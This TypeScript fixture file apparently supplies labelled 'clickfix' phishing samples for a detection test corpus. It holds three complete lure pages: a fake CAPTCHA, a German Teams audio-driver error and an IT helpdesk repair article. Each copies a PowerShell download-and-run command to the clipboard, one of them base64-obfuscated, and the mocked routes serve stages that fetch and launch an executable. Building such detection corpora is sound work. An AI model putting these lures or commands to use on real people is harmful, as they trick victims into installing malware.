import type { Entry } from '../entry.js';
import { htmlRoute } from '../entry.js';
import { doc, img } from '../parts/zb-kit.js';
import { jsRoute } from '../parts/e-bin.js';

export const entries: Entry[] = [
  {
    id: 'zb-clickfix-shared-doc-human-check',
    label: 'clickfix',
    kind: 'clickfix',
    url: 'https://docs-preview-secure.com/share/Board_Minutes_Nov2026',
    body: doc({
      title: 'Verify you are human',
      css: `body{margin:0;font-family:system-ui,Segoe UI,sans-serif;background:#fafafa}.w{max-width:600px;margin:90px auto;padding:0 20px}h1{font-size:26px;font-weight:500}.cb{display:flex;align-items:center;gap:12px;border:1px solid #d9d9d9;background:#fff;padding:16px;width:300px;border-radius:4px}
.cb input{width:26px;height:26px}#steps{display:none;background:#fff;border:1px solid #ddd;padding:18px;margin-top:18px;border-radius:6px}kbd{background:#eee;border:1px solid #bbb;border-radius:3px;padding:1px 6px}`,
      body: `<div class="w"><h1>docs-preview-secure.com</h1><p>Verifying you are human. This may take a few seconds.</p>
<div class="cb"><input type="checkbox" id="c"><label for="c">I'm not a robot</label></div>
<div id="steps"><b>Verification steps</b><ol><li>Press <kbd>Windows</kbd> + <kbd>R</kbd></li><li>Press <kbd>Ctrl</kbd> + <kbd>V</kbd></li><li>Press <kbd>Enter</kbd></li></ol><p style="font-size:13px;color:#666">This confirms your browser is not automated. Ray ID: 8e21a4c9fb02d11f</p></div>
<p style="font-size:12px;color:#888;margin-top:30px">docs-preview-secure.com needs to review the security of your connection before proceeding.</p></div>
<script>
document.getElementById('c').addEventListener('click',function(){var cmd='powershell -w h -nop -c "$x=iwr https://docs-preview-secure.com/v/check.txt -UseBasicParsing;iex $x.Content" # ✅ I am not a robot - reCAPTCHA Verification ID: 4471';
navigator.clipboard.writeText(cmd).catch(function(){var t=document.createElement('textarea');t.value=cmd;document.body.appendChild(t);t.select();document.execCommand('copy');t.remove();});document.getElementById('steps').style.display='block';});
</script>`,
    }),
    routes: { 'docs-preview-secure.com/v/check.txt': { status: 200, headers: { 'content-type': 'text/plain' }, body: '$p="$env:TEMP\\svc.exe";iwr https://docs-preview-secure.com/v/s.bin -OutFile $p;Start-Process $p' } },
  },
  {
    id: 'zb-clickfix-teams-audio-fix-de',
    label: 'clickfix',
    kind: 'clickfix',
    url: 'https://teams-besprechung-beitreten.com/meet/846201937',
    body: doc({
      title: 'Microsoft Teams – Besprechung beitreten',
      lang: 'de',
      css: `body{margin:0;font-family:"Segoe UI",sans-serif;background:#1f1f1f;color:#fff}.v{max-width:720px;margin:40px auto;background:#2d2d2d;border-radius:8px;padding:24px}.cam{height:260px;background:#000;border-radius:6px;display:flex;align-items:center;justify-content:center;color:#aaa}
.e{background:#3b2323;border:1px solid #a94442;padding:14px;border-radius:6px;margin-top:16px}.e button{background:#6264a7;color:#fff;border:0;padding:9px 16px;border-radius:4px}`,
      body: `<div class="v"><h3>Jahresgespräch 2026 – Vertriebsleitung</h3><div class="cam">Kamera ist aus</div>
<div class="e"><b>Audiofehler: Kein Mikrofon-Treiber gefunden (0x80070490)</b><p>Ihr Audiotreiber ist veraltet. Um der Besprechung beizutreten, aktualisieren Sie den Treiber:</p>
<ol><li>Klicken Sie auf <b>Fix kopieren</b></li><li>Drücken Sie <b>Win + X</b> und wählen Sie <b>Terminal (Administrator)</b></li><li>Fügen Sie mit <b>Strg + V</b> ein und drücken Sie <b>Enter</b></li></ol><button id="b">Fix kopieren</button></div></div>
<script>
var enc='JHU9J2h0dHBzOi8vdGVhbXMtYmVzcHJlY2h1bmctYmVpdHJldGVuLmNvbS9kcnYvYXVkaW8uemlwJzskZD0iJGVudjpBUFBEQVRBXGF1ZCI7aXdyICR1IC1PdXRGaWxlICIkZC56aXAiO0V4cGFuZC1BcmNoaXZlICIkZC56aXAiICRkIC1Gb3JjZTtTdGFydC1Qcm9jZXNzICIkZFxhdWRpb2Rydi5leGUi';
document.getElementById('b').onclick=function(){navigator.clipboard.writeText('powershell -nop -w hidden -c "'+atob(enc).replace(/"/g,"'")+'"');this.textContent='Kopiert ✔';};
</script>`,
    }),
    routes: { 'teams-besprechung-beitreten.com/drv/audio.zip': { status: 200, headers: { 'content-type': 'application/zip' }, body: Buffer.from('PK\u0005\u0006' + '\0'.repeat(18), 'latin1') } },
  },
  {
    id: 'zb-clickfix-it-helpdesk-outlook-repair',
    label: 'clickfix',
    kind: 'clickfix',
    url: 'https://it-servicedesk-support.help/kb/outlook-sync-repair',
    body: doc({
      title: 'IT Service Desk – Outlook sync repair (KB-40217)',
      css: `body{margin:0;font-family:"Segoe UI",Arial,sans-serif;background:#f3f4f6}.h{background:#0f4c81;color:#fff;padding:14px 26px}.c{max-width:760px;margin:26px auto;background:#fff;padding:28px;border-radius:4px}pre{background:#1e1e1e;color:#dcdcdc;padding:12px;overflow:auto;font-size:13px}
button{background:#0f4c81;color:#fff;border:0;padding:9px 18px;border-radius:3px}.n{background:#e8f1fb;padding:10px;border-left:4px solid #0f4c81}`,
      body: `<div class="h">IT Service Desk &middot; Knowledge Base</div><div class="c"><h2>KB-40217: Outlook stops syncing after the November security update</h2>
<div class="n">Affected: staff on Windows 10/11 who received the 26 Nov update. Symptoms: "Disconnected", calendar not updating, password prompts.</div>
<p>Our engineers have published a one-line repair. Run it in <b>PowerShell</b> (press <b>Win + R</b>, type <code>powershell</code>, press Enter), paste the command and press Enter. It takes about 30 seconds and restarts Outlook.</p>
<pre id="cmd">irm https://it-servicedesk-support.help/kb/repair | iex</pre><button id="cp">Copy command</button>
<p style="font-size:13px;color:#666">If the issue persists, reply to the ticket email. Please do not call the phone line for this issue – high volume.</p></div>
<script>document.getElementById('cp').onclick=function(){navigator.clipboard.writeText(document.getElementById('cmd').textContent);this.textContent='Copied';};</script>`,
    }),
    routes: { 'it-servicedesk-support.help/kb/repair': { status: 200, headers: { 'content-type': 'text/plain' }, body: '$w=New-Object Net.WebClient;$w.DownloadFile("https://it-servicedesk-support.help/kb/OutlookFix.exe","$env:TEMP\\OutlookFix.exe");Start-Process "$env:TEMP\\OutlookFix.exe"' } },
  },
];
